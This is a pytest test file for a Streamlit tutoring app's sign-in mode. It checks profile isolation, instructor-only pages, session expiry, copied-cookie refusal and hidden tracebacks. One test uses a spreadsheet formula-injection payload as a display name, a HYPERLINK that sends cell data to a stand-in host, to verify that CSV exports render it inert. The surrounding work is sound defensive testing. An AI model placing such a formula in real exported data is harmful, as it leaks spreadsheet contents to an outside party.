"""Class mode (`[auth]` configured): sign-in first, the identity's own profile and nothing else
(URL parameters, forged session and widget values, an imported file naming another profile),
roles from configuration; and the Class page. Without `[auth]` the app is unchanged."""

from __future__ import annotations

import re
import time
from datetime import UTC, datetime, timedelta

import pytest
from streamlit.testing.v1 import AppTest

from grader import Verdict
from tests.app.learner_fixtures import database_url  # noqa: F401
from tests.app.shell_helpers import APP, ROOT, TIMEOUT
from tutor.store import NewAttempt, utc_now
from tutor.store.identities import profile_for_identity
from tutor.transfer import export_json, import_json

ISSUER = "http://127.0.0.1:9400"
AUTH = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret": "test-only",
        "client_id": "tutor", "client_secret": "test-only",
        "server_metadata_url": f"{ISSUER}/.well-known/openid-configuration"}
ROLES = {"instructor_emails": ["lee@school.test"], "instructor_groups": ["dl-staff"]}
# What Streamlit keeps of an identity token: its claims, times and nonce included.
ISSUED = int(time.time())
TOKEN = {"is_logged_in": True, "iss": ISSUER, "iat": ISSUED, "exp": ISSUED + 3600}
ADA = {**TOKEN, "sub": "sub-ada", "nonce": "n-ada", "name": "Ada", "email": "ada@school.test"}
BO = {**TOKEN, "sub": "sub-bo", "nonce": "n-bo", "name": "Bo", "email": "bo@school.test"}
LEE = {**TOKEN, "sub": "sub-lee", "nonce": "n-lee", "name": "Lee", "email": "lee@school.test",
       "email_verified": True}



def shell(user: dict | None, page: str | None = None, *, params=None, state=None,
          lang: str = "en") -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.secrets["auth"] = AUTH
    at.secrets["roles"] = ROLES
    at.user = dict(user or {"is_logged_in": False})
    at.query_params["lang"] = lang
    for key, value in (params or {}).items():
        at.query_params[key] = str(value)
    for key, value in (state or {}).items():
        at.session_state[key] = value
    at.run()
    assert not at.exception, at.exception
    if page:
        at.switch_page(f"app_pages/{page}.py").run()
        assert not at.exception, at.exception
    return at


def _own(store, claims) -> int:
    return profile_for_identity(store, claims["iss"], claims["sub"], claims["name"]).id


def _with_attempts(store, claims, n: int) -> int:
    pid = _own(store, claims)
    for k in range(n):
        store.record_attempt(pid, NewAttempt(f"q{k}", Verdict.WRONG), now=utc_now() - timedelta(hours=k))
    return pid


def test_a_visitor_who_has_not_signed_in_sees_only_the_login_screen(store):
    at = shell(None)
    assert [b.label for b in at.button] == ["Sign in"]
    assert at.session_state["profile_id"] is None
    assert store.list_profiles() == []  # nothing made for an anonymous visitor
    assert not at.sidebar.selectbox


@pytest.mark.parametrize(("lang", "label"), [("zh", "登录"), ("en", "Sign in")])
def test_the_login_screen_speaks_both_languages(database_url, lang, label):  # noqa: F811
    assert [b.label for b in shell(None, lang=lang).button] == [label]


@pytest.mark.parametrize(("start", "other", "label"), [("en", "zh", "登录"), ("zh", "en", "Sign in")])
def test_the_login_screen_switches_language_and_remembers_it(database_url, start, other,  # noqa: F811
                                                            label):
    at = shell(None, lang=start)
    switch = at.main.button_group[0]  # in the main area: a phone does not show the sidebar
    assert switch.options and switch.value == start
    switch.set_value(other).run()
    assert [b.label for b in at.button] == [label]
    assert at.query_params["lang"] == other
    # The cookie the next session reads after the provider's round trip (state.remember_language).
    scripts = [h.proto.body for h in at.get("html")]
    assert any(f"tutor_lang={other};" in body for body in scripts), scripts


def test_the_first_login_makes_the_profile_and_shows_no_picker(store):
    at = shell(ADA, "dashboard")
    ada = _own(store, ADA)
    assert at.session_state["profile_id"] == ada
    assert [p.name for p in store.list_profiles()] == ["Ada"]
    assert not [s for s in at.sidebar.selectbox if s.key == "profile.picker"]
    assert "Sign out" in [b.label for b in at.sidebar.button]
    assert "profile" not in at.query_params


def test_a_profile_in_the_url_is_ignored(store):
    bo = _with_attempts(store, BO, 3)
    at = shell(ADA, "dashboard", params={"profile": bo})
    assert at.session_state["profile_id"] == _own(store, ADA) != bo
    assert "profile" not in at.query_params
    assert [m.value for m in at.metric][:1] == ["0"]  # Ada's attempts, not Bo's 3


def test_forged_session_and_widget_values_are_overridden(store):
    bo = _with_attempts(store, BO, 3)
    at = shell(ADA, "dashboard", state={"profile_id": bo, "profile.picker": bo})
    assert at.session_state["profile_id"] == _own(store, ADA)
    assert [m.value for m in at.metric][:1] == ["0"]
    at.session_state["profile_id"] = bo  # forged between runs, too
    at.run()
    assert at.session_state["profile_id"] == _own(store, ADA)


def test_an_imported_file_naming_another_profile_lands_in_ones_own(store):
    # The Dashboard imports into the current profile (transfer_view: into_profile_id); the file's
    # profile is never looked up by name or id.
    bo = _with_attempts(store, BO, 3)
    at = shell(ADA, "dashboard")
    ada = at.session_state["profile_id"]
    report = import_json(store, export_json(store, bo), into_profile_id=ada)
    assert report.profile_id == ada and store.count_attempts(ada) == 3
    assert store.count_attempts(bo) == 3 and len(store.list_profiles()) == 2


def test_a_forged_import_is_marked_on_the_dashboard_and_left_out_of_the_class(store):
    ada = _with_attempts(store, ADA, 1)  # one wrong first try, answered here
    mallory = profile_for_identity(store, ISSUER, "sub-mal", "Mallory")
    for k in range(5):
        store.record_attempt(mallory.id, NewAttempt(f"q{k}", Verdict.CORRECT, score=1.0),
                             now=utc_now() - timedelta(days=2, minutes=k))
    import_json(store, export_json(store, mallory.id), into_profile_id=ada)  # "her" correct ones
    at = shell(ADA, "dashboard")
    table = next(d.value for d in at.dataframe if "Where" in d.value.columns)
    assert sorted(table["Where"]) == ["Practice"] + ["Practice (imported)"] * 5
    lee = shell(LEE, "class_view")
    row = lee.dataframe[0].value.set_index("Learner").loc[f"Ada · #{ada}"]
    assert (row["First tries"], row["Accuracy"]) == (1, "0%")


@pytest.mark.parametrize("allowed", [False, True])
def test_an_instructor_can_turn_importing_off(store, allowed):
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.secrets["auth"], at.secrets["roles"] = AUTH, ROLES
    at.secrets["imports"] = {"allowed": allowed}
    at.user = dict(ADA)
    at.query_params["lang"] = "zh"
    at.run()
    at.switch_page("app_pages/dashboard.py").run()
    assert not at.exception, at.exception
    assert ("本课程已关闭导入功能" in " ".join(i.value for i in at.info)) is not allowed
    assert bool(at.get("file_uploader")) is allowed


def test_a_display_name_that_is_a_formula_is_drawn_inert(store):
    # The provider's `name` claim, which some providers let a user edit.
    evil = '=HYPERLINK("http://evil.test/?"&A1,"Ada")'
    bo = _with_attempts(store, {**BO, "name": evil}, 1)
    at = shell(LEE, "class_view")
    for table in at.dataframe:  # what the toolbar's CSV download writes
        names = list(table.value["Learner"])
        assert f"'{evil} · #{bo}" in names and not any(n.startswith("=") for n in names)


def test_a_learner_never_sees_a_traceback(store, monkeypatch):
    from streamlit import config

    secret = "connection to /srv/tutor/secret.db refused"

    def broken(*_args, **_kwargs):
        raise RuntimeError(secret)

    monkeypatch.setattr("tutor.dashboard.dashboard_data", broken)
    at = shell(ADA)
    at.switch_page("app_pages/dashboard.py").run()
    shown = at.exception[0]
    assert secret not in shown.message and "RuntimeError" not in shown.message
    assert not shown.stack_trace
    assert config.get_option("client.showErrorDetails") == "none"


def test_learners_cannot_reach_the_instructor_pages(store):
    at = shell(ADA)
    for page in ("class_view", "author", "analytics"):
        with pytest.raises(ValueError, match="not a registered page|registered"):
            at.switch_page(f"app_pages/{page}.py")


def test_the_class_page_refuses_a_learner_who_runs_it_anyway(store):
    at = AppTest.from_file(str(ROOT / "app_pages" / "class_view.py"), default_timeout=TIMEOUT)
    at.secrets["auth"], at.secrets["roles"], at.user = AUTH, ROLES, dict(ADA)
    at.session_state["lang"] = "en"
    at.run()
    assert [e.value for e in at.error] == ["This page is for the class's instructors."]
    assert not at.dataframe and not at.metric


@pytest.mark.parametrize("instructor", [LEE, {**BO, "sub": "sub-staff", "groups": ["dl-staff"]}])
def test_an_instructor_sees_the_class(store, instructor):
    _with_attempts(store, ADA, 4)
    at = shell(instructor, "class_view")
    assert at.title[0].value == "Class"
    table = at.dataframe[0].value
    ada = _own(store, ADA)
    # Ada (no verified address: told apart by her profile's id); the instructor is not a learner
    assert set(table["Learner"]) == {f"Ada · #{ada}"} and at.metric[0].value == "1"
    assert "Instructor" in [t.value for t in at.sidebar.caption]


def test_a_learner_signs_out(store):
    at = shell(ADA, "dashboard")
    next(b for b in at.sidebar.button if b.label == "Sign out").click().run()
    assert [b.label for b in at.button] == ["Sign in"]


def _ended(at: AppTest) -> bool:
    return [b.label for b in at.button] == ["Sign in"] and any(
        "sign-in has ended" in i.value for i in at.info) and at.session_state["profile_id"] is None


def test_a_copy_of_the_cookie_is_refused_after_signing_out(store):
    at = shell(ADA, "dashboard")
    thief = shell(ADA, "dashboard")  # the same claims: what a copied cookie opens
    assert thief.session_state["profile_id"] == _own(store, ADA)
    next(b for b in at.sidebar.button if b.label == "Sign out").click().run()
    assert _ended(shell(ADA))  # a new session with the copy
    thief.run()  # the session the copy had already opened, at its next run
    assert _ended(thief)
    # Her next sign-in (a new token: a new nonce and issue time) works; Bo was never affected.
    assert shell({**ADA, "nonce": "n-ada-2", "iat": ISSUED + 1}, "dashboard").session_state[
        "profile_id"] == _own(store, ADA)
    assert shell(BO).session_state["profile_id"] == _own(store, BO)


def test_with_the_database_away_an_open_session_carries_on_and_a_new_one_waits(store, monkeypatch):
    from tutor.store import StoreUnavailable

    at = shell(ADA, "dashboard")

    def away(*_args):
        raise StoreUnavailable("unreachable")

    monkeypatch.setattr("tutor.store.sign_outs.sign_in_ended", away)
    at.run()  # vouched for before: not thrown out by a database restart
    assert at.session_state["profile_id"] == _own(store, ADA)
    # A session the database never vouched for (a copied cookie?) waits for it, and is told why.
    new = shell(ADA)
    assert [b.label for b in new.button] == ["Sign in"] and new.session_state["profile_id"] is None
    assert any("cannot be checked right now" in i.value for i in new.info)


@pytest.mark.parametrize(("claims", "section"), [
    ({**ADA, "iat": ISSUED - 10 * 3600 - 1}, {}),  # older than a school day
    ({**ADA, "iat": ISSUED - 3 * 3600}, {"max_hours": 2}),
    ({**ADA, "iat": ISSUED - 120, "exp": ISSUED - 60}, {"end_at_token_expiry": True}),
    ({k: v for k, v in ADA.items() if k != "iat"}, {}),  # nothing bounds it
])
def test_an_old_or_expired_sign_in_gets_the_login_screen(store, claims, section):
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.secrets["auth"], at.secrets["roles"], at.secrets["sign_in"] = AUTH, ROLES, section
    at.user = dict(claims)
    at.query_params["lang"] = "en"
    at.run()
    assert not at.exception, at.exception
    assert _ended(at) and not at.sidebar.button
    assert store.list_profiles() == []


def test_a_running_session_ends_when_its_time_is_up(store, monkeypatch):
    at = shell(ADA, "dashboard")
    assert at.session_state["profile_id"] == _own(store, ADA)
    later = datetime.fromtimestamp(ISSUED + 10 * 3600, UTC)
    monkeypatch.setattr("tutor.store.utc_now", lambda: later)
    at.run()  # the next click, ten hours on
    assert _ended(at)


def test_without_auth_the_app_keeps_local_profiles(database_url):  # noqa: F811
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.query_params["lang"] = "en"
    at.run()
    assert not at.exception
    assert [s.key for s in at.sidebar.selectbox] == ["profile.picker"]
    at.switch_page("app_pages/class_view.py").run()  # local mode: the machine's owner teaches
    assert at.title[0].value == "Class" and not at.error


STUCK_QUESTIONS = ("basics-residual-block-form", "basics-residual-from-target",
                   "basics-residual-3d-example")


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_class_page_shows_names_titles_and_no_data_marks(store, lang):
    from app_pages.widgets.resources import bank, question_title
    from quizbank.enums import Topic
    from tutor.i18n import t

    ada = _own(store, ADA)
    for k, qid in enumerate(STUCK_QUESTIONS):  # three wrong first tries today: stuck
        store.record_attempt(ada, NewAttempt(qid, Verdict.WRONG), now=utc_now() - timedelta(hours=k))
    _own(store, BO)  # signed in once, answered nothing
    at = shell(LEE, "class_view", lang=lang)
    learners, mastery = at.dataframe[0].value, at.dataframe[1].value
    for table in (learners, mastery):
        cells = table.astype(object).to_numpy().ravel()
        assert not any(c is None or c != c or str(c) == "None" for c in cells)  # no None, no NaN
    by_name = learners.set_index(t("classview.col.learner", lang))
    bo_id = _own(store, BO)
    bo, ada_row = by_name.loc[f"Bo · #{bo_id}"], by_name.loc[f"Ada · #{ada}"]
    assert bo[t("classview.col.accuracy", lang)] == "—"
    assert bo[t("classview.col.last_active", lang)] == "—"
    assert ada_row[t("classview.col.accuracy", lang)] == "0%"
    assert re.fullmatch(r"(\d{4}-)?\d\d-\d\d \d\d:\d\d", ada_row[t("classview.col.last_active", lang)])
    failed_most = ada_row[t("classview.col.stuck_on", lang)]
    catalog = {q.id: q for q in bank()}
    assert not any(qid in failed_most for qid in STUCK_QUESTIONS)  # titles, not ids
    assert question_title(catalog[STUCK_QUESTIONS[0]], lang, limit=40) in failed_most
    # Mastery: topic names as Practice's filter shows them, in its order; "—" where nothing
    # was answered (every topic for Bo), a share where something was.
    topics = [tp.value for tp in Topic if tp.value in {str(q.topic) for q in catalog.values()}]
    assert list(mastery.columns) == [t("classview.col.learner", lang),
                                     *(t(f"practice.topic.{tp}", lang) for tp in topics)]
    rows = mastery.set_index(t("classview.col.learner", lang))
    assert set(rows.loc[f"Bo · #{bo_id}"]) == {"—"}
    ada_topic = t(f"practice.topic.{catalog[STUCK_QUESTIONS[0]].topic}", lang)
    assert rows.loc[f"Ada · #{ada}", ada_topic] == "0%"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_every_csv_column_has_a_header_in_each_language(lang):
    from tutor.class_view import CSV_COLUMNS
    from tutor.i18n import t

    headers = [t(f"classview.csv.{column}", lang) for column in CSV_COLUMNS]
    assert len(set(headers)) == len(headers) and "_" not in "".join(headers)


def test_the_class_page_follows_each_new_attempt(store):
    # An answer recorded between two visits shows at the next one, also when a profile was
    # deleted and its export imported again: SQLite then reuses the deleted attempts' ids, so
    # the number of attempts and the last id are as before (a cache keyed on them went stale).
    ada = _own(store, ADA)
    at = shell(LEE, "class_view")
    first_tries, shown = "First tries", f"Ada · #{ada}"
    assert at.dataframe[0].value.set_index("Learner").loc[shown, first_tries] == 0
    store.record_attempt(ada, NewAttempt("basics-residual-block-form", Verdict.CORRECT, score=1.0))
    at.run()
    assert at.dataframe[0].value.set_index("Learner").loc[shown, first_tries] == 1
    other = export_json(store, ada)
    store.delete_profile(ada)
    import_json(store, other, new_profile_name="Ada again")
    at.run()
    table = at.dataframe[0].value.set_index("Learner")
    assert shown not in table.index  # a stale cache would still show her
    assert table.loc["Ada again", first_tries] == 0  # imported: left out of the class's record
